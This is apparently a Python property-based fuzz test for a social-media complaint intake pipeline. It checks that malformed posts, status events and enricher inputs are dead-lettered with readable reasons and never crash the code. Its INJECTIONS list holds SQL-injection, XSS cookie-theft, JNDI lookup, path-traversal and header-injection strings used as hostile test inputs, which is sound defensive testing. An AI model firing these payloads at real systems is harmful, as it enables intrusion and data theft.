"""Bad input never crashes the edges (issue 7, item 2).

Hypothesis throws malformed events at the intake (``streams.pipeline.parse_batch`` around
``intake.raw_post.parse_raw_post``), at the operators' status events
(``streams.status_events.parse_status_event``) and at the enricher (``Enricher.enrich_batch``):
invalid JSON, random bytes and invalid UTF-8, wrong types for every field, missing fields, texts
over 100,000 characters, control characters and NUL, SQL/HTML/script payloads, times from 1970
and 2100 and garbage dates, coordinates out of range / NaN / inf, nested objects, long ids.

Properties: nothing raises; each bad payload gives exactly one dead letter whose reason is one
readable line naming the problem (the field, or 'payload'/'JSON'/'UTF-8'); the valid posts mixed
in between come out exactly as they do alone; the enricher returns a well-formed result for any
string. Each example is a batch of many payloads, so the counts are high and the file stays
under a minute; the last test writes the totals to test-artifacts/reliability-fuzz.json and
prints ``reliability: fuzzed inputs tried=… crashes=…``.
"""
from __future__ import annotations

import json
import math
import re
import string
import time
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from intake.privacy import mask_pii
from intake.raw_post import _CONTROL, EARLIEST, MAX_TEXT_CHARS, RawPost, parse_raw_post
from streams.pipeline import DLQ_PAYLOAD_CHARS, parse_batch
from streams.status_events import STATUSES, parse_status_event

ROOT = Path(__file__).resolve().parents[2]
KEY = b"fuzz-test-key-0123456789abcdef"
NOW = datetime(2026, 11, 20, 12, 0, tzinfo=timezone.utc)

# Figures for the last test: payloads tried per target (malformed and valid), crashes seen.
TRIED = {"intake_malformed": 0, "intake_valid": 0, "status_malformed": 0, "status_valid": 0, "enricher": 0}
CRASHES: list[str] = []
RAN: set[str] = set()
STARTED = time.monotonic()

# No shrinking: a batch of big payloads takes minutes to shrink; the assertion messages name the
# payload, the expected field and the reason instead.
FUZZ = dict(deadline=None, database=None, phases=[Phase.explicit, Phase.reuse, Phase.generate],
            suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example])

# ------------------------------------------------------------------ building blocks
INJECTIONS = [
    "'; DROP TABLE posts_raw; --", "1' OR '1'='1", "' UNION SELECT name, password FROM system.users --",
    "Robert'); DROP TABLE incidents;--", "{day:Date}", "{{7*7}}", "${jndi:ldap://evil/a}", "%s%s%s%n", "%(x)s",
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)", "\"><svg onload=1>",
    "../../../../etc/passwd", "\\x00", "NULL", "\u202eevil\u202c", "\ufeffBOM", "\x00", "\r\n\r\nHTTP/1.1 200 OK",
]
WORDS = [
    "Третий день нет воды в посёлке Южном", "Усть-Лабинск", "Краснодарский край", "ул. Ленина 12", "яма на дороге",
    "мусор не вывозят", "звоните +7 (918) 123-45-67", "пишите ivan.petrov@mail.ru", "карта 4276 3800 1234 5679",
    "🙂🔥", "ё", "Ростов-на-Дону", "в 2024 году", "8 (86135) 4-12-34",
]
# every character but lone surrogates (those are a rejection of their own): NUL, controls, RTL marks, emoji …
ANY_CHAR = st.characters(blacklist_categories=("Cs",))
LETTERS = st.sampled_from(string.ascii_letters + "абвгдеёжзийклмнопрстуфхцчшщыэюя")
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(ANY_CHAR, max_size=12))
json_values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(ANY_CHAR, max_size=6), inner, max_size=3),
                           max_leaves=6)
not_strings = st.one_of(st.floats(), st.booleans(), st.lists(scalars, max_size=3), st.dictionaries(st.text(max_size=4), scalars, max_size=3))
with_surrogate = st.tuples(st.text(ANY_CHAR, max_size=8), st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF),
                           st.text(ANY_CHAR, max_size=8)).map("".join)
nasty_text = st.one_of(
    st.text(ANY_CHAR, max_size=120),
    st.lists(st.sampled_from(INJECTIONS + WORDS) | st.text(ANY_CHAR, max_size=4), max_size=10).map(" ".join),
)


def huge_text(min_len: int, max_extra: int):
    """A text of min_len .. min_len + max_extra characters, built by repeating a short sample (cheap)."""
    return st.tuples(st.text(ANY_CHAR, min_size=1, max_size=6) | st.sampled_from(WORDS), st.integers(0, max_extra)).map(
        lambda t: (t[0] * (min_len // len(t[0]) + 2))[: min_len + t[1]])


def as_bytes(obj, ascii_only: bool = True) -> bytes:
    return json.dumps(obj, ensure_ascii=ascii_only).encode("utf-8")


def _fmt_time(dt: datetime, how: str):
    if how == "z":
        return dt.strftime("%Y-%m-%dT%H:%M:%S") + "Z"
    if how == "msk":
        return dt.astimezone(timezone(timedelta(hours=3))).isoformat()
    if how == "naive":
        return dt.replace(tzinfo=None).isoformat()
    if how == "unix":
        return int(dt.timestamp())
    return dt.timestamp()                   # unix seconds as a float


def times_between(lo: datetime, hi: datetime):
    return st.tuples(st.datetimes(min_value=lo.replace(tzinfo=None), max_value=hi.replace(tzinfo=None), timezones=st.just(timezone.utc)),
                     st.sampled_from(["z", "msk", "naive", "unix", "float"])).map(lambda t: _fmt_time(*t))


valid_times = times_between(EARLIEST + timedelta(days=1), NOW - timedelta(minutes=1))
OPTIONAL = (("author_id", 256), ("community_id", 256), ("community_name", 512), ("url", 2048), ("region_hint", 256), ("place_hint", 256))
REQUIRED = ("source", "id", "text", "created_at")
KNOWN = set(REQUIRED) | {n for n, _ in OPTIONAL} | {"geo"}


# (strategies are built once, here: building them inside a draw costs more than the draw)
_SOURCES = st.sampled_from(["vk", "telegram", "ok", "portal", "max_2"])
_IDS = st.integers(0, 10**18) | st.text(ANY_CHAR, max_size=40).map(lambda s: "p" + s)
_TEXTS = {False: nasty_text | st.just(""), True: nasty_text | st.just("") | huge_text(MAX_TEXT_CHARS - 5, 5)}
_OPTIONAL_VALUES = {name: st.none() | nasty_text.map(lambda s, n=limit: s[:n]) | st.sampled_from(INJECTIONS) | st.integers(-10**30, 10**30)
                    for name, limit in OPTIONAL}
_GEOS = st.fixed_dictionaries({"lat": st.floats(-90, 90) | st.integers(-90, 90), "lon": st.floats(-180, 180) | st.integers(-180, 180)})
_EXTRAS = st.dictionaries(st.text(ANY_CHAR, max_size=8).filter(lambda k: k not in KNOWN), json_values, max_size=2)


@st.composite
def _valid_posts(draw, huge: bool) -> dict:
    post = {"source": draw(_SOURCES), "id": draw(_IDS), "text": draw(_TEXTS[huge]), "created_at": draw(valid_times)}
    for name, _ in OPTIONAL:
        if draw(st.booleans()):
            post[name] = draw(_OPTIONAL_VALUES[name])
    if draw(st.booleans()):
        post["geo"] = draw(_GEOS)
    if draw(st.booleans()):
        post.update(draw(_EXTRAS))          # anything else is ignored, even nested objects
    return post


_VALID = {True: _valid_posts(True), False: _valid_posts(False)}


def valid_posts(huge: bool = True):
    """Posts the schema accepts, with nasty but legal content (controls, injections, unknown fields);
    ``huge``: sometimes a text of (almost) the maximum length."""
    return _VALID[huge]


def encode_valid(post: dict, ascii_only: bool) -> bytes:
    """JSON bytes of a valid post; a long text as UTF-8 (escaped it could pass the 1 MB payload limit)."""
    return as_bytes(post, ascii_only=ascii_only and len(post["text"]) < 50_000)


def _show(payload) -> str:
    try:
        return repr(payload)[:200]
    except ValueError:                  # an int too long to print
        return f"<{type(payload).__name__}>"


def _unique(post: dict, index: int) -> dict:
    """Distinct source ids within a batch (a repeated post is stored once, by design)."""
    post = dict(post)
    post["id"] = post["id"] * 1000 + index if isinstance(post["id"], int) else f"{index}:{post['id']}"
    return post


# ------------------------------------------------------------------ malformed raw posts: (payload, what the reason must name)
def _corrupt(field: str, values, hint: str | None = None):
    return st.tuples(valid_posts(huge=False), values).map(lambda t: ({**t[0], field: t[1]}, hint or f"'{field}'"))


def _without(field: str):
    return valid_posts(huge=False).map(lambda p: ({k: v for k, v in p.items() if k != field}, f"'{field}'"))


bad_sources = st.one_of(
    not_strings, st.none(), st.integers(),
    st.sampled_from(["", "VK", "vk!", "1vk", "v" * 33, "vk\n", "vk\x00", " vk", "вк", "_vk"] + INJECTIONS),
    st.text(ANY_CHAR, max_size=40).filter(lambda s: not re.fullmatch(r"[a-z][a-z0-9_]{0,31}", s)),
)
bad_ids = st.one_of(
    st.floats(), st.booleans(), st.none(), st.lists(scalars, max_size=3), st.dictionaries(st.text(max_size=3), scalars, max_size=2),
    st.sampled_from(["", "   ", "\x00", "\x00\x01\u200b\t", "\ufeff\u2028"]), with_surrogate,
    st.text(LETTERS, min_size=129, max_size=3000), st.integers(min_value=10**128, max_value=10**600),
)
bad_texts = st.one_of(st.none(), st.integers(), not_strings, with_surrogate, huge_text(MAX_TEXT_CHARS + 1, 40_000))
NOW_TS = int(NOW.timestamp())
bad_times = st.one_of(
    st.none(), st.booleans(), st.lists(scalars, max_size=2), st.dictionaries(st.text(max_size=3), scalars, max_size=2),
    st.sampled_from(["", "yesterday", "NaN", "2026-13-45", "2026-02-30T10:00:00Z", "31.12.2025", "2026-11-20T25:00:00",
                     "2026-11-20T10:00:00+25:00", "0000-00-00", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+01:00",
                     "1970-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "2004-12-31T23:59:59Z", "2100-01-01T00:00:00Z",
                     "2026-11-20\x00", "'; DROP TABLE posts_raw; --", "<script>alert(1)</script>"]),
    st.text(st.characters(blacklist_categories=("Nd", "Cs")), max_size=30),   # no digits: never a date
    st.integers(-10**20, int(EARLIEST.timestamp()) - 1), st.integers(NOW_TS + 2 * 86400, 10**20), st.just(10**400),
    st.sampled_from([0, 4102444800, -1, 1e300, -1e300, float("nan"), float("inf"), float("-inf")]),
    times_between(datetime(1970, 1, 1, tzinfo=timezone.utc), EARLIEST - timedelta(seconds=1)),
    times_between(NOW + timedelta(days=2), datetime(2100, 12, 31, tzinfo=timezone.utc)),
)


def _bad_coord(bound: float):
    return st.one_of(
        st.none(), st.text(max_size=5), st.booleans(), st.lists(st.floats(), max_size=2),
        st.dictionaries(st.text(max_size=2), st.floats(), max_size=1),
        st.floats(min_value=bound, exclude_min=True), st.floats(max_value=-bound, exclude_max=True),
        st.sampled_from([float("nan"), float("inf"), float("-inf"), 10**400, -(10**400)]),
        st.integers(min_value=int(bound) + 1), st.integers(max_value=-int(bound) - 1),
    )


bad_geos = st.one_of(
    st.tuples(not_strings.filter(lambda v: not isinstance(v, dict)) | st.text() | st.integers(), st.just("'geo'")),
    st.tuples(st.fixed_dictionaries({"lat": _bad_coord(90), "lon": st.floats(-180, 180)}), st.just("geo.lat")),
    st.tuples(st.fixed_dictionaries({"lat": st.floats(-90, 90), "lon": _bad_coord(180)}), st.just("geo.lon")),
)
invalid_utf8 = [b"\xff", b"\xfe", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\xbc", b"\xed\xa0\x80", b"\xc0\xaf",
                b"\xf8\x88\x80\x80\x80", b"\x80"]


@st.composite
def not_json(draw):
    raw = as_bytes(draw(valid_posts(huge=False)))    # ASCII: a cut never splits a UTF-8 sequence
    how = draw(st.sampled_from(["cut", "tail", "quotes", "repr", "deep_list", "deep_obj", "nul"]))
    if how == "cut":
        raw = raw[: draw(st.integers(0, len(raw) - 1))]
    elif how == "tail":
        raw += draw(st.sampled_from([b"x", b",", b"}", b"]", b"{}", b"'", b"\x00"]))
    elif how == "quotes":
        raw = raw.replace(b'"', b"'")
    elif how == "repr":
        raw = repr(json.loads(raw)).encode()
    elif how == "deep_list":
        raw = b"[" * draw(st.integers(2_000, 200_000))
    elif how == "deep_obj":
        raw = b'{"a":' * draw(st.integers(2_000, 100_000))
    else:
        raw = b"\x00" + raw
    return raw, "JSON"


@st.composite
def bad_utf8(draw):
    raw = as_bytes(draw(valid_posts(huge=False)))
    at = draw(st.integers(0, len(raw)))
    return raw[:at] + draw(st.sampled_from(invalid_utf8)) + raw[at:], "UTF-8"


def _wrong_optional(name: str, limit: int):
    return _corrupt(name, st.one_of(not_strings, with_surrogate, st.text(LETTERS, min_size=limit + 1, max_size=limit + 40)))


def _python_only(field: str, hint: str | None = None):
    """Already-decoded payloads (parse_raw_post takes dicts too) with values JSON cannot hold."""
    odd = st.sampled_from([b"bytes", bytearray(b"x"), Decimal("1.5"), {1, 2}, (1, 2), datetime(2026, 1, 1), object(), 10**5000,
                           -(10**5000), complex(1, 2), frozenset()])
    return _corrupt(field, odd, hint)


malformed_posts = st.one_of(
    # as bytes off the topic (the normal case)
    st.one_of(
        _corrupt("source", bad_sources), _corrupt("id", bad_ids), _corrupt("text", bad_texts), _corrupt("created_at", bad_times),
        *[_wrong_optional(n, lim) for n, lim in OPTIONAL],
        st.tuples(valid_posts(huge=False), bad_geos).map(lambda t: ({**t[0], "geo": t[1][0]}, t[1][1])),
        *[_without(f) for f in REQUIRED],
        st.tuples(st.one_of(scalars, st.lists(json_values, max_size=3)), st.just("JSON object")),
    ).map(lambda t: (as_bytes(t[0], ascii_only=not isinstance(t[0], dict) or not isinstance(t[0].get("text"), str)
                              or len(t[0]["text"]) <= MAX_TEXT_CHARS), t[1])),
    not_json(), bad_utf8(),
    st.binary(max_size=300).map(lambda b: (b, None)),
    st.tuples(valid_posts(huge=False), st.integers(1_000_001, 1_100_000)).map(lambda t: (as_bytes({**t[0], "pad": "x" * t[1]}), "larger than")),
    # as objects, for callers that decode themselves
    st.one_of(*[_python_only(f) for f in ("source", "id", "text", "created_at", "author_id", "url")],
              _python_only("geo", "'geo'"), st.tuples(valid_posts(huge=False), st.sampled_from([Decimal("1"), "1", None, 10**5000])).map(
                  lambda t: ({**t[0], "geo": {"lat": t[1], "lon": 0}}, "geo.lat"))),
)


# ------------------------------------------------------------------ the corruption table
# Every way to break a post we could think of, applied to each drawn post: hundreds of malformed
# payloads per example without a Hypothesis draw each (the draws are what costs time).
NESTED = {"a": {"b": [1, {"c": None, "d": [[[]]]}]}}
WRONG_TYPES = [None, True, False, 1.5, float("nan"), float("inf"), [], ["vk"], {}, NESTED]
BAD_SOURCE_STRINGS = ["", "VK", "vk!", "1vk", "v" * 33, "vk\n", "vk\x00", " vk", "вк", "_vk", "vk\ud800"] + INJECTIONS
BAD_ID_VALUES = [None, True, False, 1.5, float("nan"), [], {}, NESTED, "", "   ", "\x00", "\x00\x01\u200b\t", "\ufeff\u2028",
                 "\ud800", "x\udfff", "x" * 129, "9" * 200, 10**128, 10**600]
BAD_TEXT_VALUES = [None, True, 0, 1.5, float("nan"), [], {}, NESTED, ["текст"], "\ud800", "жалоба \udfff", "a" * (MAX_TEXT_CHARS + 1),
                   ("нет воды \x00 " * 10_000)[: MAX_TEXT_CHARS + 1]]
_TS = lambda dt: int(dt.timestamp())
BAD_TIME_VALUES = [
    None, True, False, [], {}, NESTED, "", " ", "yesterday", "NaN", "2026-13-45", "2026-02-30T10:00:00Z", "31.12.2025",
    "2026-11-20T25:00:00", "2026-11-20T10:00:00+25:00", "0000-00-00", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+01:00",
    "2026-11-20\x00", "2026-11-20T10:00:00Z; DROP TABLE posts_raw", "<script>alert(1)</script>", "\ud800",
    0, -1, 4102444800, 1e300, -1e300, float("nan"), float("inf"), float("-inf"), 10**400, -(10**20), 10**20,
    _TS(EARLIEST) - 1, _TS(NOW) + 2 * 86400,
] + [_fmt_time(dt, how) for dt in (datetime(1970, 1, 1, tzinfo=timezone.utc), datetime(1999, 12, 31, 23, 59, tzinfo=timezone.utc),
                                    EARLIEST - timedelta(seconds=1), NOW + timedelta(days=1, minutes=1),
                                    datetime(2100, 1, 1, tzinfo=timezone.utc))
     for how in ("z", "msk", "naive", "unix", "float")]
BAD_COORDS = [None, "55.7", True, [], {}, NESTED, float("nan"), float("inf"), float("-inf"), 10**400, -(10**400), 1e308, 181, -181.5]
BAD_GEOS = [True, 0, 1.5, "55.7,37.6", [55.7, 37.6], []]
NOT_OBJECTS = [[], [1, 2], "строка", 1, 1.5, None, True, [{"source": "vk"}]]


def corruptions(post: dict) -> list[tuple[bytes, str]]:
    """(payload bytes, what the reason must name) for each way of breaking this valid post."""
    out = []

    def put(field, value, hint):
        out.append(({**post, field: value}, hint))

    for v in WRONG_TYPES + BAD_SOURCE_STRINGS:
        put("source", v, "'source'")
    for v in BAD_ID_VALUES:
        put("id", v, "'id'")
    for v in BAD_TEXT_VALUES:
        put("text", v, "'text'")
    for v in BAD_TIME_VALUES:
        put("created_at", v, "'created_at'")
    for name, limit in OPTIONAL:
        for v in [True, 1.5, float("nan"), [], {}, NESTED, "\ud800", "x" * (limit + 1), "я" * (limit + 1)]:
            put(name, v, f"'{name}'")
    for v in BAD_GEOS:
        put("geo", v, "'geo'")
    for v in BAD_COORDS:
        put("geo", {"lat": v, "lon": 37.6}, "geo.lat")
        put("geo", {"lat": 55.7, "lon": v}, "geo.lon")
    for field in REQUIRED:
        out.append(({k: v for k, v in post.items() if k != field}, f"'{field}'"))
    encoded = [(as_bytes(obj, ascii_only=not isinstance(obj.get("text"), str) or len(obj["text"]) <= MAX_TEXT_CHARS), hint)
               for obj, hint in out]
    encoded += [(as_bytes(v), "JSON object") for v in NOT_OBJECTS]
    raw = as_bytes(post)                            # ASCII: a cut never splits a UTF-8 sequence
    encoded += [(raw[: len(raw) * k // 6], "JSON") for k in range(6)]
    encoded += [(raw + tail, "JSON") for tail in (b"x", b",", b"}", b"]", b"{}", b"'", b"\x00")]
    encoded += [(raw.replace(b'"', b"'"), "JSON"), (repr(json.loads(raw)).encode(), "JSON"), (b"\x00" + raw, "JSON"),
                ("\ufeff".encode() + raw, "JSON")]
    encoded += [(raw[: len(raw) // 2] + seq + raw[len(raw) // 2:], "UTF-8") for seq in invalid_utf8]
    return encoded



_REASON_START = re.compile(r"^(payload|field|fields|status event)\b")


def assert_readable(reason) -> None:
    """One line a person can act on: names what is wrong, no traceback, valid UTF-8."""
    assert isinstance(reason, str) and 10 <= len(reason) <= 300, reason
    assert reason.isprintable(), reason
    assert not reason.startswith("internal error"), reason
    assert _REASON_START.match(reason), reason
    reason.encode("utf-8")


def _call(target: str, fn, *args):
    try:
        return fn(*args)
    except Exception as exc:
        CRASHES.append(f"{target}: {type(exc).__name__}: {str(exc)[:100]}")
        raise


# ------------------------------------------------------------------ intake
@settings(max_examples=45, **FUZZ)
@given(base=valid_posts(huge=False), drawn=st.lists(malformed_posts, min_size=4, max_size=10),
       neighbours=st.lists(valid_posts(), min_size=3, max_size=6), rnd=st.randoms(use_true_random=False))
def test_intake_dead_letters_every_bad_payload_and_keeps_its_neighbours(base, drawn, neighbours, rnd):
    RAN.add("intake")
    payloads = corruptions(base) + drawn
    rnd.shuffle(payloads)
    messages, bad, good, used_huge = [], [], [], set()
    for offset, (payload, hint) in enumerate(payloads):
        messages.append((payload, offset % 3, offset))
        bad.append((offset, hint))
        if rnd.random() < 0.1:  # a valid post between the bad ones
            i = rnd.randrange(len(neighbours))
            if len(neighbours[i]["text"]) > 10_000:   # a 100,000-character post: once per batch (time)
                if i in used_huge:
                    continue
                used_huge.add(i)
            raw = encode_valid(_unique(neighbours[i], offset), ascii_only=offset % 2 == 0)
            messages.append((raw, offset % 3, 100_000 + offset))
            good.append(raw)
    result = _call("intake", parse_batch, messages, KEY, "posts.raw", NOW)
    TRIED["intake_malformed"] += len(bad)
    TRIED["intake_valid"] += len(good)
    CRASHES.extend(d.reason for d in result.dead_letters if d.reason.startswith("internal error"))

    # exactly one dead letter per bad payload, none for a valid one
    assert sorted(d.offset for d in result.dead_letters) == [o for o, _ in bad]
    hints = dict(bad)
    for d in result.dead_letters:
        assert_readable(d.reason)
        if hints[d.offset] is not None:
            assert hints[d.offset] in d.reason, (hints[d.offset], d.reason, d.payload[:300])
        assert len(d.payload) <= DLQ_PAYLOAD_CHARS and d.topic == "posts.raw"
        json.dumps(d.to_json(), ensure_ascii=False).encode("utf-8")   # what the worker sends to posts.dlq
    # the valid neighbours: all accepted, in order, exactly as they are alone
    assert len(result.posts) == len(good)
    for p, raw in zip(result.posts, good):
        assert p == parse_raw_post(raw, KEY, now=NOW)
        assert not _CONTROL.search(p.text) and not _CONTROL.search(p.source_post_id) and p.source_post_id
        for value in p.row():
            if isinstance(value, str):
                value.encode("utf-8")           # storable


@settings(max_examples=30, **FUZZ)
@given(st.lists(malformed_posts, min_size=10, max_size=20))
def test_parse_raw_post_returns_a_rejection_for_each_bad_payload(items):
    """The validator itself, without the batch's safety net: a Rejection, never an exception."""
    RAN.add("raw_post")
    for payload, hint in items:
        r = _call("raw_post", parse_raw_post, payload, KEY, NOW)
        TRIED["intake_malformed"] += 1
        assert not isinstance(r, RawPost), _show(payload)
        assert_readable(r.reason)
        if hint is not None:
            assert hint in r.reason, (hint, r.reason)


# ------------------------------------------------------------------ status events
valid_status = st.fixed_dictionaries(
    {"incident_id": st.text(ANY_CHAR, min_size=1, max_size=64), "status": st.sampled_from(STATUSES)},
    optional={"at": times_between(EARLIEST + timedelta(days=1), NOW - timedelta(seconds=1)) | st.none(),
              "actor": nasty_text.map(lambda s: s[:300]) | st.none(), "comment": nasty_text | st.none(),
              "event_id": st.text(ANY_CHAR, min_size=1, max_size=64) | st.integers(0, 10**30) | st.none()},
)


def _status_corrupt(field, values, hint=None):
    return st.tuples(valid_status, values).map(lambda t: ({**t[0], field: t[1]}, hint or f"'{field}'"))


malformed_status = st.one_of(
    st.one_of(
        _status_corrupt("incident_id", st.one_of(st.none(), st.integers(), not_strings, st.just(""), with_surrogate,
                                                 st.text(LETTERS, min_size=65, max_size=500))),
        _status_corrupt("status", st.one_of(st.none(), st.integers(), not_strings,
                                            st.sampled_from(["Resolved", "done", "", " resolved"] + INJECTIONS),
                                            st.text(max_size=12).filter(lambda s: s not in STATUSES))),
        _status_corrupt("at", bad_times.filter(lambda v: v is not None) | times_between(NOW + timedelta(seconds=1), NOW + timedelta(days=1))),
        _status_corrupt("actor", st.one_of(st.integers(), not_strings, with_surrogate)),
        _status_corrupt("comment", st.one_of(st.integers(), not_strings, with_surrogate)),
        _status_corrupt("event_id", st.one_of(not_strings, st.integers(min_value=10**64), st.integers(max_value=-(10**64)), with_surrogate,
                                              st.text(LETTERS, min_size=65, max_size=200))),
        valid_status.map(lambda d: ({k: v for k, v in d.items() if k != "incident_id"}, "'incident_id'")),
        valid_status.map(lambda d: ({k: v for k, v in d.items() if k != "status"}, "'status'")),
        st.tuples(st.one_of(scalars, st.lists(json_values, max_size=3)), st.just("JSON object")),
    ).map(lambda t: (as_bytes(t[0]), t[1])),
    st.binary(max_size=200).map(lambda b: (b, None)),
    valid_status.flatmap(lambda d: st.tuples(st.integers(0, len(as_bytes(d)) - 1), st.sampled_from(invalid_utf8)).map(
        lambda t: (as_bytes(d)[: t[0]] + t[1] + as_bytes(d)[t[0]:], "UTF-8"))),
    valid_status.flatmap(lambda d: st.integers(0, len(as_bytes(d)) - 1).map(lambda n: (as_bytes(d)[:n], "JSON"))),
    st.integers(2_000, 100_000).map(lambda n: (b"[" * n, "JSON")),
)


def status_corruptions(event: dict) -> list[tuple[bytes, str]]:
    """The corruption table for a valid status event."""
    out = []
    for v in [None, True, 0, 1.5, [], {}, NESTED, "", "x" * 65, "\ud800"]:
        out.append(({**event, "incident_id": v}, "'incident_id'"))
    for v in [None, True, 0, [], {}, NESTED, "", "Resolved", "done", " resolved", "resolved\x00"] + INJECTIONS:
        out.append(({**event, "status": v}, "'status'"))
    for v in [t for t in BAD_TIME_VALUES if t is not None] + [_fmt_time(NOW + timedelta(minutes=1), "z")]:
        out.append(({**event, "at": v}, "'at'"))
    for name in ("actor", "comment"):
        for v in [False, 0, 1.5, [], {}, NESTED, "\ud800 x"]:
            out.append(({**event, name: v}, f"'{name}'"))
    for v in [True, 1.5, [], {}, NESTED, 10**64, -(10**64), "x" * 65, "\udfff"]:
        out.append(({**event, "event_id": v}, "'event_id'"))
    for field in ("incident_id", "status"):
        out.append(({k: v for k, v in event.items() if k != field}, f"'{field}'"))
    encoded = [(as_bytes(obj), hint) for obj, hint in out] + [(as_bytes(v), "JSON object") for v in NOT_OBJECTS]
    raw = as_bytes(event)
    encoded += [(raw[: len(raw) * k // 4], "JSON") for k in range(4)] + [(raw + b"}", "JSON"), (raw.replace(b'"', b"'"), "JSON")]
    encoded += [(raw[: len(raw) // 2] + seq + raw[len(raw) // 2:], "UTF-8") for seq in invalid_utf8]
    return encoded


@settings(max_examples=40, **FUZZ)
@given(base=valid_status, items=st.lists(st.tuples(malformed_status, st.booleans(), valid_status), min_size=5, max_size=12))
def test_status_events_reject_bad_events_with_a_reason_and_take_valid_ones(base, items):
    RAN.add("status")
    for payload, hint in status_corruptions(base) + [t[0] for t in items]:
        r = _call("status", parse_status_event, payload, NOW)
        TRIED["status_malformed"] += 1
        assert isinstance(r, str), (_show(payload), r)
        assert_readable(r)
        if hint is not None:
            assert hint in r, (hint, r)
    for _, use, event in items:
        if not use:
            continue
        row = _call("status", parse_status_event, as_bytes(event), NOW)
        TRIED["status_valid"] += 1
        assert isinstance(row, list), (event, row)
        event_id, iid, status, actor, comment, at, received, sector = row
        assert (iid, status, received) == (event["incident_id"], event["status"], NOW)
        assert sector == (event.get("sector") or "")
        assert isinstance(event_id, str) and 1 <= len(event_id) <= 64 and EARLIEST <= at <= NOW
        assert len(actor) <= 256 and comment == mask_pii((event.get("comment") or "")[:8000])[:4000]
        for value in (event_id, iid, actor, comment):
            value.encode("utf-8")


# ------------------------------------------------------------------ enricher
@pytest.fixture(scope="module")
def enricher():
    from enrichment.enricher import Enricher

    return Enricher.load(cache_dir=ROOT / "data" / "cache")


REFERENCE = {"text": "Третий день нет воды в посёлке Южном Усть-Лабинского района, дети без воды!",
             "region_hint": "Краснодарский край", "community": "Подслушано Усть-Лабинск"}
hints = (st.none() | st.sampled_from(["Краснодарский край", "Ростовская область", "Усть-Лабинск", "Южный", "Москва"] + INJECTIONS)
         | json_values)
any_geo = st.none() | json_values | st.fixed_dictionaries({"lat": scalars | _bad_coord(90) | st.floats(-90, 90),
                                                           "lon": scalars | _bad_coord(180) | st.floats(-180, 180)})
texts_for_enricher = st.one_of(
    st.text(max_size=200),                                    # anything, lone surrogates included
    nasty_text, with_surrogate, st.sampled_from(INJECTIONS),
    huge_text(MAX_TEXT_CHARS, 60_000),
)
enricher_posts = st.one_of(
    st.fixed_dictionaries({}, optional={"text": texts_for_enricher | st.none(), "region_hint": hints, "place_hint": hints,
                                        "community": hints, "geo": any_geo}),
    st.fixed_dictionaries({"text": not_strings | st.integers()}),     # not a text: Rejected
    json_values.filter(lambda v: not isinstance(v, dict)),           # not a post: Rejected
)
_UNIT = ("sector_confidence", "runner_up_confidence", "complaint_score", "urgency", "place_confidence")


def assert_well_formed(e, sectors: set[str]) -> None:
    from enrichment.enricher import Enrichment

    assert isinstance(e, Enrichment), e
    assert e.sector in sectors and e.runner_up in sectors
    for name in _UNIT:
        v = getattr(e, name)
        assert isinstance(v, (int, float)) and not isinstance(v, bool) and math.isfinite(v) and 0.0 <= v <= 1.0, (name, v)
    assert isinstance(e.is_complaint, bool) and all(isinstance(r, str) for r in e.urgency_reasons)
    assert (e.lat is None) == (e.lon is None)
    if e.lat is not None:
        assert -90 <= e.lat <= 90 and -180 <= e.lon <= 180
    for name in ("region", "municipality", "settlement", "oktmo", "municipality_oktmo", "h3"):
        assert getattr(e, name) is None or isinstance(getattr(e, name), str)
    assert isinstance(e.place_method, str) and e.model_version
    json.dumps(e.to_json(), ensure_ascii=False, allow_nan=False).encode("utf-8")


@settings(max_examples=70, **FUZZ)
@given(st.lists(enricher_posts, min_size=15, max_size=40), st.integers(0, 40))
def test_enricher_returns_a_well_formed_result_for_anything(enricher, posts, ref_at):
    RAN.add("enricher")
    sectors = set(enricher.what.sector.classes) | {"other"}
    reference = enricher.enrich(REFERENCE)
    ref_at = min(ref_at, len(posts))
    batch = posts[:ref_at] + [REFERENCE] + posts[ref_at:]
    out = _call("enricher", enricher.enrich_batch, batch)
    TRIED["enricher"] += len(posts)
    assert len(out) == len(batch)
    assert out[ref_at] == reference                          # a good post is not affected by its neighbours
    for p, e in zip(batch, out):
        if isinstance(p, dict) and (p.get("text") is None or isinstance(p.get("text"), str)):
            assert_well_formed(e, sectors)
        else:
            assert not hasattr(e, "sector") and e.reason and ("'text'" in e.reason or "object" in e.reason), e


# ------------------------------------------------------------------ figures (keep last in the file)
def test_zz_reliability_figures(capsys):
    """Writes and prints the totals; demands ≥ 10,000 malformed inputs when every fuzz test ran."""
    malformed = TRIED["intake_malformed"] + TRIED["status_malformed"] + TRIED["enricher"]
    total = sum(TRIED.values())
    figures = {"fuzzed_inputs_tried": total, "malformed_inputs": malformed, "crashes": len(CRASHES), **TRIED,
               "seconds": round(time.monotonic() - STARTED, 1), "crash_samples": CRASHES[:10]}
    out = ROOT / "test-artifacts"
    out.mkdir(exist_ok=True)
    (out / "reliability-fuzz.json").write_text(json.dumps(figures, ensure_ascii=False, indent=1), encoding="utf-8")
    try:                                           # the shared reliability table, when that module is present
        from tests.reliability import record
    except ImportError:
        pass
    else:
        record("fuzz: intake, status events, enricher", fuzzed=total, crashes=len(CRASHES),
               note=f"{malformed} malformed; 0 lost valid neighbours")
    with capsys.disabled():
        print(f"\nreliability: fuzzed inputs tried={total} (malformed {malformed}) crashes={len(CRASHES)}")
    assert not CRASHES, CRASHES[:5]
    if RAN >= {"intake", "raw_post", "status", "enricher"}:
        assert malformed >= 10_000, TRIED
